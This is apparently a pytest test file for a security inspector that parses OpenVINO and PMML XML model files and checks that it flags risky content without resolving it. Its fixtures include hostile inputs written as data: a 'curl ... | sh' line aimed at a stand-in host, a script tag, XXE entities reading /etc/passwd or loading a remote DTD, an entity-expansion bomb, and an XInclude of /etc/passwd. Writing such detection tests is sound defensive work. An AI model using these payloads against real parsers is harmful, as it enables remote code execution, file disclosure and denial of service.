from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, inspect_with_budget, kinds, mutations, notes, only
from trustaudit.filefacts import Coverage
from trustaudit.formats.xml_models import inspect_xml

OPENVINO = b"""<?xml version="1.0"?>
<net name="model" version="11">
  <layers>
    <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>
    <layer id="1" name="a/../b" type="Const" version="opset1"><data offset="100" size="24" element_type="f32"/></layer>
    %s
  </layers>
  <rt_info><conversion_parameters><input_model value="/home/user/model.onnx"/></conversion_parameters></rt_info>
</net>"""
PMML = b"""<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="by" value="sklearn2pmml"/></Header>
<TreeModel functionName="regression">%s</TreeModel></PMML>"""


def test_an_openvino_model_lists_its_layers() -> None:
    facts = inspect(inspect_xml, OPENVINO % b"")
    assert (facts.format, facts.coverage) == ("openvino", Coverage.STRUCTURE)
    assert kinds(facts) == {"openvino-layer", "openvino-weights"}
    assert {n.get("type") for n in notes(facts, "openvino-layer")} == {"Parameter", "Const"}
    assert only(facts, "openvino-weights").get("end") == "124"


def test_extension_layers_and_libraries_are_told() -> None:
    custom = (
        b'<layer id="2" name="c" type="Custom" version="extension"><data library="/opt/x.so" k="plug.dll"/></layer>'
    )
    facts = inspect(inspect_xml, OPENVINO % custom)
    assert {(n.get("type"), n.get("version")) for n in notes(facts, "openvino-layer")} >= {("Custom", "extension")}
    assert {n.get("value") for n in notes(facts, "openvino-path")} == {"/opt/x.so", "plug.dll"}


def test_a_pmml_model_is_no_anomaly() -> None:
    facts = inspect(inspect_xml, PMML % b"<Node/>")
    assert facts.format == "pmml"
    assert kinds(facts) == {"pmml-models"}


@pytest.mark.parametrize(
    "extension",
    [b'<Extension value="curl https://x.test/a | sh"/>', b"<Extension><![CDATA[<script>x()</script>]]></Extension>"],
)
def test_scripts_in_pmml_extensions_are_named(extension: bytes) -> None:
    assert kinds(inspect(inspect_xml, PMML % extension)) & {"metadata-shell", "metadata-script"}


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE net [<!ENTITY % p SYSTEM "http://x.test/e.dtd"> %p;]>',
        b'<!DOCTYPE net [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_named_and_never_resolved(doctype: bytes, encoding: str) -> None:
    text = doctype.decode() + '<net version="11"><layers>&x;&b;</layers></net>'
    facts = inspect(inspect_xml, text.encode(encoding))
    assert {"xml-doctype", "xml-entity"} <= kinds(facts)
    assert facts.coverage is Coverage.PARTIAL


def test_a_document_type_without_entities_is_told() -> None:
    text = b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/x.dtd"><plist/>'
    facts = inspect(inspect_xml, text)
    assert facts.coverage is Coverage.STRUCTURE
    assert only(facts, "xml-doctype").get("subset") == "no"


def test_an_inclusion_is_told() -> None:
    text = b'<net version="11" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></net>'
    assert only(inspect(inspect_xml, text), "xml-include").get("href") == "/etc/passwd"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<net",
        b"<a><b></a>",
        b"\x80\x04N.",
        b"PK\x03\x04",
        b"<a/><b/>",
        b"<a>&nope;</a>",
        b"<?xml version='1.0' encoding='rot13'?><a/>",
        b"<?xml version='1.0' encoding='shift_jis'?><a/>",
    ],
)
def test_what_is_not_well_formed_is_partial(data: bytes) -> None:
    facts = inspect(inspect_xml, data)
    assert facts.coverage is Coverage.PARTIAL
    assert "xml-malformed" in kinds(facts)


def test_spent_budget_keeps_what_was_read() -> None:
    long = OPENVINO % (b'<layer id="9" name="n" type="Relu" version="opset1"/>' * 5000)
    facts, _ = inspect_with_budget(inspect_xml, long, 70_000)
    assert facts.coverage is Coverage.PARTIAL
    assert notes(facts, "openvino-layer")


@given(cut=st.integers(0, 400), patches=st.lists(st.tuples(st.integers(0, 700), st.integers(0, 255)), max_size=5))
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_xml, mutations(OPENVINO % b"", cut, patches))
